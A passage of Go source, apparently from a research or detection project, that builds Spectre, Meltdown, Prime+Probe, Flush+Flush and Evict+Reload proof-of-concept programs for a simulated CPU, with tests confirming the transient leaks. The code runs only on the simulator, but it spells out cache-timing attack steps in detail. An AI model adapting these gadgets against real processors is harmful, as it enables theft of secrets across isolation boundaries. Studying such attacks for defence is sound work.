	if err := poc.Program.Validate(); err != nil {
		t.Fatal(err)
	}
	m, err := exec.NewMachine(exec.DefaultConfig(), poc.Program, nil)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("S-BTB did not halt")
	}
	if tr.Transient == 0 {
		t.Fatal("no transient execution — BTB injection inert")
	}
	seg, _ := poc.Program.Segment("hist")
	if v := m.Memory().Load64(seg.Addr + uint64(wantLine*8)); v == 0 {
		for i := 0; i < spectreProbeLines; i++ {
			t.Logf("line %2d: hits=%d", i, m.Memory().Load64(seg.Addr+uint64(i*8)))
		}
		t.Errorf("secret line %d never warmed transiently", wantLine)
	}
	// Selective: the training pollutes line 0 at most; not everything.
	flagged := 0
	for i := 0; i < spectreProbeLines; i++ {
		if m.Memory().Load64(seg.Addr+uint64(i*8)) > 0 {
			flagged++
		}
	}
	if flagged > 3 {
		t.Errorf("%d probe lines flagged; leak not selective", flagged)
	}
}

func TestSpectreBTBSecretOnlyTransient(t *testing.T) {
	// With speculation disabled the secret line must never warm: the
	// architectural path goes to the benign handler.
	p := DefaultParams()
	wantLine := p.Secret % spectreProbeLines
	if wantLine == 0 {
		wantLine = 1
	}
	poc := SpectreBTB(p)
	cfg := exec.DefaultConfig()
	cfg.SpecWindow = 0
	m, err := exec.NewMachine(cfg, poc.Program, nil)
	if err != nil {
		t.Fatal(err)
	}
	m.Run()
	seg, _ := poc.Program.Segment("hist")
	if v := m.Memory().Load64(seg.Addr + uint64(wantLine*8)); v != 0 {
		t.Errorf("secret line warmed without speculation (hits=%d): leak is architectural", v)
	}
}
