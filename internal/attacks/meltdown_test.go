package attacks

import (
	"testing"

	"repro/internal/exec"
	"repro/internal/isa"
)

func meltdownConfig() exec.Config {
	cfg := exec.DefaultConfig()
	cfg.Protected = []exec.AddrRange{{Base: MeltdownKernelBase, Size: MeltdownKernelSize}}
	return cfg
}

func TestProtectedMemoryFaultsArchitecturally(t *testing.T) {
	// A direct architectural read of the kernel range must halt the
	// process immediately.
	poc := MeltdownFR(DefaultParams())
	_ = poc
	b := builderForDirectRead()
	m, err := exec.NewMachine(meltdownConfig(), b, nil)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if tr.Halted && tr.Retired > 3 {
		t.Errorf("architectural kernel read retired %d instructions", tr.Retired)
	}
	if m.RegisterOfMonitored(0) == 0x42 {
		t.Error("architectural read returned protected data")
	}
}

func TestMeltdownLeaksThroughTransientBypass(t *testing.T) {
	const secret = 11
	poc := MeltdownFR(DefaultParams())
	m, err := exec.NewMachine(meltdownConfig(), poc.Program, nil)
	if err != nil {
		t.Fatal(err)
	}
	m.Memory().Store64(MeltdownKernelBase, secret)
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("meltdown PoC did not halt")
	}
	if tr.Transient == 0 {
		t.Fatal("no transient execution")
	}
	seg, _ := poc.Program.Segment("hist")
	best, bestV := -1, uint64(0)
	for i := 0; i < 16; i++ {
		if v := m.Memory().Load64(seg.Addr + uint64(i*8)); v > bestV {
			best, bestV = i, v
		}
	}
	if best != secret {
		t.Errorf("meltdown leaked %d (count %d), want %d", best, bestV, secret)
	}
}

func TestMeltdownWorksWithoutProtectionToo(t *testing.T) {
	// Under the default (unprotected) config the PoC still leaks — the
	// read is transient either way — so the detection pipeline can model
	// it without special machine configuration.
	const secret = 7
	poc := MeltdownFR(DefaultParams())
	m, err := exec.NewMachine(exec.DefaultConfig(), poc.Program, nil)
	if err != nil {
		t.Fatal(err)
	}
	m.Memory().Store64(MeltdownKernelBase, secret)
	m.Run()
	seg, _ := poc.Program.Segment("hist")
	if v := m.Memory().Load64(seg.Addr + uint64(secret*8)); v == 0 {
		t.Error("no leak under default config")
	}
}

// builderForDirectRead builds a two-instruction program that reads the
// kernel base architecturally.
func builderForDirectRead() *isa.Program {
	b := isa.NewBuilder("direct-read", AttackerCodeBase)
	b.Mov(isa.R(isa.R0), isa.MemAbs(MeltdownKernelBase)).
		Hlt()
	return b.MustBuild()
}

func TestProtectedMemoryFaultsOnStore(t *testing.T) {
	b := isa.NewBuilder("direct-write", AttackerCodeBase)
	b.Mov(isa.MemAbs(MeltdownKernelBase), isa.Imm(1)).
		Mov(isa.R(isa.R0), isa.Imm(0x42)).
		Hlt()
	p := b.MustBuild()
	m, err := exec.NewMachine(meltdownConfig(), p, nil)
	if err != nil {
		t.Fatal(err)
	}
	m.Run()
	// The store faulted: the following instruction never ran and memory
	// stayed clean.
	if m.RegisterOfMonitored(isa.R0) == 0x42 {
		t.Error("execution continued past a protected store")
	}
	if m.Memory().Load64(MeltdownKernelBase) != 0 {
		t.Error("protected store modified memory")
	}
}
