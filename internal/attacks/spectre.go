package attacks

import "repro/internal/isa"

// Spectre PoC geometry: a 16-line probe array indexed by the leaked
// byte's low 4 bits, and an 8-element bounds-checked array with the
// "secret" planted immediately past its end.
const (
	spectreProbeLines = 16
	spectreArrayLen   = 8
	// Fixed addresses so the Prime+Probe recovery variant can build
	// congruent eviction sets for the probe region and the size
	// variable.
	// spectreProbeBase places probe line k in LLC set
	// MonitoredSetOffset+k, away from the program's own code and data
	// sets.
	spectreProbeBase uint64 = 0x6000_0000 + MonitoredSetOffset*LineSize
	spectreEvictBase uint64 = 0x6800_0000
	// spectreSizeBase maps to LLC set 200, clear of the probe sets and
	// the code/data sets, so evicting the size variable does not pollute
	// probe measurements.
	spectreSizeBase uint64 = 0x7000_0000 + 200*LineSize
)

// spectreData allocates the common Spectre data segments and returns the
// (arr, probe, size) addresses. The secret byte planted past the array
// is p.Secret % spectreProbeLines.
func spectreData(b *isa.Builder, p Params) (arr, probe, size uint64) {
	secret := byte(p.Secret % spectreProbeLines)
	// arr||secret: 8 in-bounds words of zero, then the secret word.
	init := make([]byte, (spectreArrayLen+1)*8)
	init[spectreArrayLen*8] = secret
	arr = b.DataInit("arrsec", uint64(len(init)), init, false)
	probe = b.DataAt("probe", spectreProbeBase, spectreProbeLines*LineSize, nil, false)
	sizeInit := make([]byte, 8)
	sizeInit[0] = spectreArrayLen
	size = b.DataAt("size", spectreSizeBase, 8, sizeInit, false)
	return arr, probe, size
}

// emitGadget emits the Spectre-v1 gadget
//
//	if (x < size) y = probe[(arr[x] & 15) * 64]
//
// with x in R1. The size load comes from memory so that, when the size
// line has been flushed or evicted, the bounds check resolves slowly and
// the mispredicted fallthrough runs transiently.
func emitGadget(b *isa.Builder, prefix string, arr, probe, size uint64) {
	b.BeginAttack().
		Mov(isa.R(isa.R2), isa.Mem(isa.RegNone, int64(size))).
		Cmp(isa.R(isa.R1), isa.R(isa.R2)).
		Jae(prefix+"_skip").
		Mov(isa.R(isa.R3), isa.MemIdx(isa.RegNone, isa.R1, 8, int64(arr))).
		And(isa.R(isa.R3), isa.Imm(spectreProbeLines-1)).
		Shl(isa.R(isa.R3), isa.Imm(6)).
		Mov(isa.R(isa.R4), isa.MemIdx(isa.RegNone, isa.R3, 1, int64(probe))).
		EndAttack().
		Label(prefix + "_skip")
}

// emitProbeFlush emits a flush sweep over the probe array and the size
// variable (the Flush+Reload-style Spectre preparation).
func emitProbeFlush(b *isa.Builder, prefix string, probe, size uint64) {
	b.BeginAttack().
		Mov(isa.R(isa.R5), isa.Imm(0)).
		Label(prefix+"_fl").
		Mov(isa.R(isa.R6), isa.R(isa.R5)).
		Shl(isa.R(isa.R6), isa.Imm(6)).
		Add(isa.R(isa.R6), isa.Imm(int64(probe))).
		Clflush(isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
		Jl(prefix + "_fl").
		Clflush(isa.Mem(isa.RegNone, int64(size))).
		EndAttack()
}

// emitReloadScan emits the Flush+Reload recovery loop: time-reload every
// probe line and accumulate hits below the threshold into hist.
func emitReloadScan(b *isa.Builder, prefix string, probe, hist uint64, threshold int64) {
	b.Mov(isa.R(isa.R5), isa.Imm(0))
	b.BeginAttack().
		Label(prefix+"_rl").
		Mov(isa.R(isa.R6), isa.R(isa.R5)).
		Shl(isa.R(isa.R6), isa.Imm(6)).
		Add(isa.R(isa.R6), isa.Imm(int64(probe))).
		Rdtscp(isa.R7).
		Mov(isa.R(isa.R0), isa.Mem(isa.R6, 0)).
		Rdtscp(isa.R8).
		Sub(isa.R(isa.R8), isa.R(isa.R7)).
		Cmp(isa.R(isa.R8), isa.Imm(threshold)).
		Jae(prefix+"_slow").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R5, 8, int64(hist))).
		Mov(isa.R(isa.R9), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R9)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R9)).
		Label(prefix+"_slow").
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
		Jl(prefix + "_rl").
		EndAttack()
}

// SpectreFRIdea is the canonical Spectre-v1 + Flush+Reload PoC: an
// inline training loop conditions the bounds check, the probe array and
// size are flushed, one out-of-bounds call leaks transiently, and a
// reload scan recovers the byte. Repeated for p.Rounds rounds.
func SpectreFRIdea(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("S-FR-Idea", AttackerCodeBase)
	arr, probe, size := spectreData(b, p)
	scratch := b.Bytes("scratch", 256, false)
	hist := b.Bytes("hist", spectreProbeLines*8, false)

	emitSetupNoise(b, scratch, 12, "setup", 1)

	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
	b.Label("round")

	// spectre.c-style mixing loop: nine in-bounds shots train the bounds
	// check at the gadget's own PC, the tenth goes out of bounds. The
	// probe array is flushed right before the out-of-bounds shot so the
	// training iterations' architectural probe accesses do not survive
	// into the reload scan.
	b.Mov(isa.R(isa.R10), isa.Imm(0)).
		Label("train").
		Mov(isa.R(isa.R1), isa.R(isa.R10)).
		Cmp(isa.R(isa.R10), isa.Imm(9)).
		Jl("inbounds")
	emitProbeFlush(b, "prep", probe, size)
	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen)).
		Jmp("shoot").
		Label("inbounds").
		And(isa.R(isa.R1), isa.Imm(spectreArrayLen-1)).
		Label("shoot")
	emitGadget(b, "g", arr, probe, size)
	b.Inc(isa.R(isa.R10)).
		Cmp(isa.R(isa.R10), isa.Imm(10)).
		Jl("train")

	emitReloadScan(b, "scan", probe, hist, p.Threshold)

	b.Dec(isa.R(isa.R11)).
		Jne("round")
	emitResultScan(b, hist, spectreProbeLines, "post", 2)
	b.Hlt()
	return PoC{Name: "S-FR-Idea", Family: FamilySFR, Program: b.MustBuild()}
}

// SpectreFRGood is the function-based Spectre-v1 + Flush+Reload variant:
// the gadget lives in a subroutine called both for training and for the
// out-of-bounds access, mirroring the structure of the widely-circulated
// "spectre.c" PoC.
func SpectreFRGood(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("S-FR-Good", AttackerCodeBase)
	arr, probe, size := spectreData(b, p)
	scratch := b.Bytes("scratch", 320, false)
	hist := b.Bytes("hist", spectreProbeLines*8, false)

	b.Entry("main")

	// victim_function(R1 = x)
	b.Label("victim_function")
	emitGadget(b, "vf", arr, probe, size)
	b.Ret()

	b.Label("main")
	emitSetupNoise(b, scratch, 20, "setup", 0)

	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
	b.Label("round")

	// Training schedule: x = i & 7 for i in 0..9.
	b.Mov(isa.R(isa.R10), isa.Imm(0)).
		Label("train").
		Mov(isa.R(isa.R1), isa.R(isa.R10)).
		And(isa.R(isa.R1), isa.Imm(spectreArrayLen-1)).
		Call("victim_function").
		Inc(isa.R(isa.R10)).
		Cmp(isa.R(isa.R10), isa.Imm(10)).
		Jl("train")

	emitProbeFlush(b, "prep", probe, size)

	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen)).
		Call("victim_function")

	emitReloadScan(b, "scan", probe, hist, p.Threshold)

	b.Dec(isa.R(isa.R11)).
		Jne("round")
	emitResultScan(b, hist, spectreProbeLines, "post", 1)
	b.Hlt()
	return PoC{Name: "S-FR-Good", Family: FamilySFR, Program: b.MustBuild()}
}

// SpectreFRMin is the minimal Spectre-v1 + Flush+Reload variant: an
// unrolled training sequence, a single flush pass and a single
// out-of-bounds shot per round, with no subroutines and no setup noise —
// the smallest program in the corpus that still leaks.
func SpectreFRMin(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("S-FR-Min", AttackerCodeBase)
	arr, probe, size := spectreData(b, p)
	hist := b.Bytes("hist", spectreProbeLines*8, false)

	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
	b.Label("round")

	// Unrolled training: five in-bounds shots, each through its own copy
	// of the gadget; the final out-of-bounds shot reuses the last copy's
	// predictor state only through the shared global history (per-PC
	// counters make the unrolled copies independent, so the OOB gadget
	// below is trained by running the loop body at its own PC too).
	for i := 0; i < 5; i++ {
		b.Mov(isa.R(isa.R1), isa.Imm(int64(i%spectreArrayLen)))
		emitGadget(b, "g"+string(rune('0'+i)), arr, probe, size)
	}

	emitProbeFlush(b, "prep", probe, size)

	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen))
	emitGadget(b, "oob", arr, probe, size)

	emitReloadScan(b, "scan", probe, hist, p.Threshold)

	b.Dec(isa.R(isa.R11)).
		Jne("round")
	b.Hlt()
	return PoC{Name: "S-FR-Min", Family: FamilySFR, Program: b.MustBuild()}
}

// SpectrePPTrippel is the Spectre-v1 + Prime+Probe PoC (after Trippel et
// al.): no CLFLUSH anywhere — the size variable is displaced with an
// eviction set, the probe-array sets are primed with the attacker's own
// lines, and after the transient access every probe set is timed; the
// set slowed down by the transient fill names the secret.
func SpectrePPTrippel(p Params) PoC {
	p = p.withDefaults()
	ppThreshold := int64(ppProbeThresholdSolo)

	b := isa.NewBuilder("S-PP-Trippel", AttackerCodeBase)
	arr, probe, size := spectreData(b, p)
	evBytes := uint64(spectreProbeLines)*LineSize + uint64(LLCWays+1)*EvictionStride
	b.DataAt("evbuf", spectreEvictBase, evBytes, nil, false)
	scratch := b.Bytes("scratch", 256, false)
	hist := b.Bytes("hist", spectreProbeLines*8, false)

	emitSetupNoise(b, scratch, 12, "setup", 2)

	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
	b.Label("round")

	// Train the bounds check.
	b.Mov(isa.R(isa.R10), isa.Imm(0)).
		Label("train").
		Mov(isa.R(isa.R1), isa.R(isa.R10)).
		And(isa.R(isa.R1), isa.Imm(spectreArrayLen-1))
	emitGadget(b, "g", arr, probe, size)
	b.Inc(isa.R(isa.R10)).
		Cmp(isa.R(isa.R10), isa.Imm(8)).
		Jl("train")

	// Prime every probe set with our own congruent lines.
	b.BeginAttack().
		Mov(isa.R(isa.R5), isa.Imm(0)).
		Label("prime_set").
		Mov(isa.R(isa.R6), isa.Imm(0)).
		Label("prime_way").
		Mov(isa.R(isa.R7), isa.R(isa.R6)).
		And(isa.R(isa.R7), isa.Imm(LLCWays-1)). // mask the transient extra iteration
		Mul(isa.R(isa.R7), isa.Imm(int64(EvictionStride))).
		Mov(isa.R(isa.R8), isa.R(isa.R5)).
		Add(isa.R(isa.R8), isa.Imm(MonitoredSetOffset)).
		Shl(isa.R(isa.R8), isa.Imm(6)).
		Add(isa.R(isa.R7), isa.R(isa.R8)).
		Add(isa.R(isa.R7), isa.Imm(int64(spectreEvictBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R7, 0)).
		Inc(isa.R(isa.R6)).
		Cmp(isa.R(isa.R6), isa.Imm(int64(LLCWays))).
		Jl("prime_way").
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
		Jl("prime_set").
		EndAttack()

	// Evict the size variable through its own eviction set (stride keeps
	// the set index, large tags displace it).
	b.BeginAttack().
		Mov(isa.R(isa.R5), isa.Imm(1)).
		Label("evsize").
		Mov(isa.R(isa.R6), isa.R(isa.R5)).
		Mul(isa.R(isa.R6), isa.Imm(int64(EvictionStride))).
		Add(isa.R(isa.R6), isa.Imm(int64(size))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(int64(LLCWays+2))).
		Jl("evsize").
		EndAttack()

	// Out-of-bounds transient shot.
	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen))
	emitGadget(b, "oob", arr, probe, size)

	// Probe every set: a set that lost a primed way is slow.
	b.BeginAttack().
		Mov(isa.R(isa.R5), isa.Imm(0)).
		Label("probe_set").
		Rdtscp(isa.R9).
		Mov(isa.R(isa.R6), isa.Imm(0)).
		Label("probe_way").
		Mov(isa.R(isa.R7), isa.R(isa.R6)).
		And(isa.R(isa.R7), isa.Imm(LLCWays-1)). // mask the transient extra iteration
		Mul(isa.R(isa.R7), isa.Imm(int64(EvictionStride))).
		Mov(isa.R(isa.R8), isa.R(isa.R5)).
		Add(isa.R(isa.R8), isa.Imm(MonitoredSetOffset)).
		Shl(isa.R(isa.R8), isa.Imm(6)).
		Add(isa.R(isa.R7), isa.R(isa.R8)).
		Add(isa.R(isa.R7), isa.Imm(int64(spectreEvictBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R7, 0)).
		Inc(isa.R(isa.R6)).
		Cmp(isa.R(isa.R6), isa.Imm(int64(LLCWays))).
		Jl("probe_way").
		Rdtscp(isa.R10).
		Sub(isa.R(isa.R10), isa.R(isa.R9)).
		Cmp(isa.R(isa.R10), isa.Imm(ppThreshold)).
		Jb("fastset").
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R5, 8, int64(hist))).
		Mov(isa.R(isa.R12), isa.Mem(isa.R7, 0)).
		Inc(isa.R(isa.R12)).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R12)).
		Label("fastset").
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
		Jl("probe_set").
		EndAttack()

	b.Dec(isa.R(isa.R11)).
		Jne("round")
	emitResultScan(b, hist, spectreProbeLines, "post", 1)
	b.Hlt()
	return PoC{Name: "S-PP-Trippel", Family: FamilySPP, Program: b.MustBuild()}
}
