package attacks

import "repro/internal/isa"

// primeProbeBase is where the Prime+Probe PoCs place their private
// priming buffer. Like evictionSetBase it is congruent to the victim's
// buffer modulo the LLC set span, so set k is reachable at
// primeProbeBase + k*LineSize + w*EvictionStride.
const primeProbeBase uint64 = 0x5800_0000

// PrimeProbeIAIK implements the classic per-set Prime+Probe loop: for
// each monitored LLC set, fill every way with the attacker's own lines
// (prime), yield to the victim, then re-access the same lines under
// RDTSCP timing (probe). A slow probe means the victim displaced primed
// lines from that set.
func PrimeProbeIAIK(p Params) PoC {
	p = p.withDefaults()
	// The probe walks LLCWays lines; a single memory-latency eviction
	// (~200 cycles) against LLCWays hits (~4 each) separates cleanly.
	ppThreshold := int64(ppProbeThreshold)

	b := isa.NewBuilder("PP-IAIK", AttackerCodeBase)
	bufBytes := uint64(p.Lines)*LineSize + uint64(LLCWays+1)*EvictionStride
	b.DataAt("prime", primeProbeBase, bufBytes, nil, false)
	scratch := b.Bytes("scratch", 256, false)
	evictions := b.Bytes("evictions", uint64(p.Lines)*8, false)

	emitSetupNoise(b, scratch, 16, "setup", 0)

	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
	b.Label("round")
	b.Mov(isa.R(isa.R2), isa.Imm(0)) // set index
	b.Label("sets")

	// Prime phase: fill all ways of set R2.
	b.BeginAttack().
		Label("prime").
		Mov(isa.R(isa.R3), isa.Imm(0)).
		Label("prloop").
		Mov(isa.R(isa.R4), isa.R(isa.R3)).
		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
		Mov(isa.R(isa.R5), isa.R(isa.R2)).
		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
		Shl(isa.R(isa.R5), isa.Imm(6)).
		Add(isa.R(isa.R4), isa.R(isa.R5)).
		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
		Inc(isa.R(isa.R3)).
		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
		Jl("prloop").
		EndAttack()

	emitBusyWait(b, "wait", isa.R3, p.Wait)

	// Probe phase: timed re-walk of the same ways.
	b.BeginAttack().
		Label("probe").
		Rdtscp(isa.R8).
		Mov(isa.R(isa.R3), isa.Imm(0)).
		Label("pbloop").
		Mov(isa.R(isa.R4), isa.R(isa.R3)).
		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
		Mov(isa.R(isa.R5), isa.R(isa.R2)).
		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
		Shl(isa.R(isa.R5), isa.Imm(6)).
		Add(isa.R(isa.R4), isa.R(isa.R5)).
		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
		Inc(isa.R(isa.R3)).
		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
		Jl("pbloop").
		Rdtscp(isa.R9).
		Sub(isa.R(isa.R9), isa.R(isa.R8)).
		Cmp(isa.R(isa.R9), isa.Imm(ppThreshold)).
		Jb("fastset").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(evictions))).
		Mov(isa.R(isa.R10), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R10)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R10)).
		EndAttack().
		Label("fastset")

	b.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("sets")
	b.Dec(isa.R(isa.R7)).
		Jne("round")

	emitResultScan(b, evictions, p.Lines, "post", 2)
	b.Hlt()
	return PoC{Name: "PP-IAIK", Family: FamilyPP, Program: b.MustBuild(), Victim: SetVictim(p)}
}

// PrimeProbeJzhang is the batched Prime+Probe variant: prime every
// monitored set in one sweep, wait once, then probe every set in a
// second sweep that records raw per-set latencies; a final pass
// thresholds the latency buffer.
func PrimeProbeJzhang(p Params) PoC {
	p = p.withDefaults()
	ppThreshold := int64(ppProbeThreshold)

	b := isa.NewBuilder("PP-Jzhang", AttackerCodeBase)
	bufBytes := uint64(p.Lines)*LineSize + uint64(LLCWays+1)*EvictionStride
	b.DataAt("prime", primeProbeBase, bufBytes, nil, false)
	scratch := b.Bytes("scratch", 384, false)
	lat := b.Bytes("lat", uint64(p.Lines)*8, false)
	score := b.Bytes("score", uint64(p.Lines)*8, false)

	emitSetupNoise(b, scratch, 20, "boot", 2)

	b.Mov(isa.R(isa.R9), isa.Imm(int64(p.Rounds)))
	b.Label("epoch")

	// Prime sweep over all sets and ways.
	b.BeginAttack().
		Label("primeall").
		Mov(isa.R(isa.R2), isa.Imm(0)).
		Label("ps_set").
		Mov(isa.R(isa.R3), isa.Imm(0)).
		Label("ps_way").
		Mov(isa.R(isa.R4), isa.R(isa.R3)).
		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
		Mov(isa.R(isa.R5), isa.R(isa.R2)).
		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
		Shl(isa.R(isa.R5), isa.Imm(6)).
		Add(isa.R(isa.R4), isa.R(isa.R5)).
		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
		Inc(isa.R(isa.R3)).
		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
		Jl("ps_way").
		Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("ps_set").
		EndAttack()

	emitBusyWait(b, "lull", isa.R3, p.Wait*2)

	// Probe sweep: one timed walk per set, latencies recorded.
	b.BeginAttack().
		Label("probeall").
		Mov(isa.R(isa.R2), isa.Imm(0)).
		Label("pb_set").
		Rdtscp(isa.R7).
		Mov(isa.R(isa.R3), isa.Imm(0)).
		Label("pb_way").
		Mov(isa.R(isa.R4), isa.R(isa.R3)).
		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
		Mov(isa.R(isa.R5), isa.R(isa.R2)).
		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
		Shl(isa.R(isa.R5), isa.Imm(6)).
		Add(isa.R(isa.R4), isa.R(isa.R5)).
		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
		Inc(isa.R(isa.R3)).
		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
		Jl("pb_way").
		Rdtscp(isa.R8).
		Sub(isa.R(isa.R8), isa.R(isa.R7)).
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(lat))).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
		Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("pb_set").
		EndAttack()

	// Threshold pass.
	b.Mov(isa.R(isa.R2), isa.Imm(0)).
		Label("rank").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(lat))).
		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
		Cmp(isa.R(isa.R8), isa.Imm(ppThreshold)).
		Jb("fast").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(score))).
		Mov(isa.R(isa.R10), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R10)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R10)).
		Label("fast").
		Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("rank")

	b.Dec(isa.R(isa.R9)).
		Jne("epoch")

	emitResultScan(b, score, p.Lines, "post", 0)
	b.Hlt()
	return PoC{Name: "PP-Jzhang", Family: FamilyPP, Program: b.MustBuild(), Victim: SetVictim(p)}
}
