package attacks

import "repro/internal/isa"

// FlushFlushIAIK implements Flush+Flush: instead of reloading, it times
// the CLFLUSH instruction itself — flushing a cached line takes longer
// than flushing an uncached one, so the flush is simultaneously the
// measurement and the reset of the monitored line.
func FlushFlushIAIK(p Params) PoC {
	p = p.withDefaults()
	// Flush-latency gap (cached 130 vs uncached 90 cycles by default):
	// a dedicated threshold between the two.
	ffThreshold := int64(110)

	b := isa.NewBuilder("FF-IAIK", AttackerCodeBase)
	b.DataAt("shared", SharedBase, uint64(p.Lines)*LineSize, nil, true)
	scratch := b.Bytes("scratch", 256, false)
	hits := b.Bytes("hits", uint64(p.Lines)*8, false)

	emitSetupNoise(b, scratch, 12, "setup", 1)

	// Initial flush pass so every monitored line starts uncached.
	b.Mov(isa.R(isa.R2), isa.Imm(0)).
		Label("prefl").
		Mov(isa.R(isa.R1), isa.R(isa.R2)).
		Shl(isa.R(isa.R1), isa.Imm(6)).
		Add(isa.R(isa.R1), isa.Imm(int64(SharedBase))).
		Clflush(isa.Mem(isa.R1, 0)).
		Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("prefl")

	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
	b.Label("round")
	b.Mov(isa.R(isa.R2), isa.Imm(0))
	b.Label("lines")
	emitLineAddr(b, isa.R1, isa.R2, SharedBase)

	emitBusyWait(b, "wait", isa.R3, p.Wait)

	// Timed flush: the whole measurement is one flush.
	b.BeginAttack().
		Label("tflush").
		Rdtscp(isa.R4).
		Clflush(isa.Mem(isa.R1, 0)).
		Rdtscp(isa.R5).
		Sub(isa.R(isa.R5), isa.R(isa.R4)).
		Cmp(isa.R(isa.R5), isa.Imm(ffThreshold)).
		Jb("quiet").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hits))).
		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
		Inc(isa.R(isa.R8)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
		EndAttack().
		Label("quiet")

	b.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("lines")
	b.Dec(isa.R(isa.R7)).
		Jne("round")

	emitResultScan(b, hits, p.Lines, "post", 0)
	b.Hlt()
	return PoC{Name: "FF-IAIK", Family: FamilyFR, Program: b.MustBuild(), Victim: SharedVictim(p)}
}

// evictionSetBase is where the Evict+Reload / Prime+Probe PoCs place
// their private eviction buffers. It is congruent to SharedBase modulo
// the L1 and LLC set spans, so eviction-set entry w for shared line i is
// evictionSetBase + i*LineSize + w*EvictionStride.
const evictionSetBase uint64 = 0x5000_0000

// EvictReloadIAIK implements Evict+Reload: like Flush+Reload but without
// CLFLUSH — the monitored shared line is displaced from the whole
// hierarchy by walking an eviction set of the attacker's own congruent
// addresses, then reloaded with timing.
func EvictReloadIAIK(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("ER-IAIK", AttackerCodeBase)
	b.DataAt("shared", SharedBase, uint64(p.Lines)*LineSize, nil, true)
	evBytes := uint64(p.Lines)*LineSize + uint64(LLCWays+1)*EvictionStride
